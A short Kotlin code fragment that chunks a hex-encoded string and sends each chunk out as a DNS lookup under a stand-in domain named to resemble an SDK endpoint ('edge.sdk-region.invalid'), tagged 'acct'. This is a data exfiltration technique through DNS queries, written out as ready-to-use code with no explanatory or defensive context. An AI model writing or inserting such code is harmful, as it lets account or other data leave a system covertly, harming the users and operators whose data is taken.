import java.net.InetAddress
val id = "acct"
for ((i, part) in hex.chunked(50).withIndex()) {
    InetAddress.getAllByName("$part.$i.$id.edge.sdk-region.invalid")
}
